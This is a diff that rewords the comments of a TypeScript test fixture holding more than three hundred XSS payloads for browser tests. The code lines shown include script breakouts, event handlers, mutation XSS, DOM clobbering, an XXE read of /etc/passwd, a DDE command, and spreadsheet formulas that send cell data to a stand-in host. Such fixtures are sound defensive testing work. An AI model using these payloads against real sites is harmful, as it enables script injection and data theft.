@@ -1,7 +1,7 @@
 /**
- * What is typed into text fields to run, load or reckon something in somebody else's hands, by family. Whatever would
- * run calls `canario()`, which the browser tests listen for; whatever would load comes from `mal.example`, which does
- * not exist. Control characters but tab and line break are refused at the door and not repeated here.
+ * Payloads for text fields that try to run, load or compute something in another user's program, by family. Payloads
+ * that run code call `canario()`, which browser tests listen for; those that load use `mal.example`, which doesn't
+ * exist. Control characters except tab and line break are refused on input and left out here.
  */
 const RUN = 'canario()';
 const HOST = '//mal.example';
@@ -150,7 +150,7 @@ const attributes = [
   `&#34; onclick=${RUN} x=&#34;" onclick="${RUN}`,
 ];
 
-/** Inside a program: strings, comments, templates and the data that search engines read. */
+/** Inside scripts: strings, comments, templates and JSON-LD. */
 const programs = [
   `';${RUN};//`,
   `";${RUN};//`,
@@ -182,7 +182,7 @@ const programs = [
   `<div data-variable="{{NOME}}" hx-on:load="${RUN}">`,
 ];
 
-/** Without a script: whatever would call home, or cover the page. */
+/** Without scripts: markup that loads from elsewhere, or covers the page. */
 const loads = [
   `<img src=${HOST}/a.gif>`,
   `<img srcset="${HOST}/a.gif 1x">`,
@@ -215,7 +215,7 @@ const loads = [
   `expression(${RUN})`,
 ];
 
-/** Markup that changes when it is read a second time. */
+/** Markup that changes when it is parsed a second time. */
 const mutations = [
   `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
@@ -239,7 +239,7 @@ const mutations = [
   `<!doctype x [<!entity x SYSTEM "file:///etc/passwd">]><p>&x;</p>`,
 ];
 
-/** The same in other letters. */
+/** The same in other characters. */
 const letters = [
   `＜script＞${RUN}＜/script＞`,
   `‹img src=x onerror=${RUN}›`,
@@ -262,7 +262,7 @@ const letters = [
   `\ufeff<script>${RUN}</script>`,
 ];
 
-/** For a spreadsheet. */
+/** Spreadsheet formulas. */
 const formulas = [
   `=HYPERLINK("http:${HOST}/?x="&A1,"ver")`,
   `=WEBSERVICE("http:${HOST}/"&A1)`,
@@ -281,7 +281,7 @@ const formulas = [
   '=DDE("cmd";"/C calc";"x")',
 ];
 
-/** Names that a page's own program looks for. */
+/** Names that collide with a page's own variables. */
 const clobbers = [
   '<a id=canario><a id=canario name=x href=javascript:1>',
   '<form id=document><input name=cookie></form>',
@@ -302,7 +302,7 @@ function alternating(word: string) {
   return [...word].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
 }
 
-/** More than three hundred, each once, the families among one another so that any few are of several. */
+/** More than three hundred distinct payloads, with the families interleaved, so that any few cover several. */
 export const PAYLOADS: readonly string[] = mixed([
   ...[onElements, short, scripts, addresses, breakouts, attributes, programs, loads, mutations, letters, formulas],
   ...[clobbers, polyglots],
@@ -314,7 +314,7 @@ function mixed(families: string[][]) {
   return [...new Set(turns.flat())];
 }
 
-/** Takes payloads in turn, each no longer than its field: those that were too long wait for one with more room. */
+/** Takes payloads in turn, each no longer than its field; longer ones wait for a field with room. */
 export function payloads() {
   const waiting = [...PAYLOADS];
   const used = new Set<string>();
